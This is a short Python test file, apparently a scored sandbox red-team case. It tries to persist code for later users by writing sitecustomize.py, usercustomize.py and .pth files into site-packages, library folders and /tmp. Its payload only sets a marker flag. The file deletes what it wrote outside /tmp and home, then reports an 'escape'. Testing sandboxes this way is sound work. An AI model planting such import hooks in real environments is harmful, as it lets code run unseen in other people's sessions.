"""Leaves files that the next student's Python would import.

class: persistence
stopped by: the sandbox
deserved: 26
"""

# %% last
import os
import site
from pathlib import Path

import course_utils
import torch

code = "import builtins\nbuiltins.OWNED = True\n"
places = [".", "/tmp", os.path.dirname(course_utils.__file__), os.path.dirname(torch.__file__)]
places += [site.getusersitepackages(), *site.getsitepackages()]
for place in places:
    for name in ("sitecustomize.py", "usercustomize.py", "zz.pth"):
        try:
            os.makedirs(place, exist_ok=True)
            Path(place, f"redteam-{name}").write_text(code)
            if place.startswith("/") and not place.startswith(("/tmp", str(Path.home()))):
                os.unlink(Path(place, f"redteam-{name}"))
                print("E5CAP" + "ED wrote", place)
        except OSError:
            pass
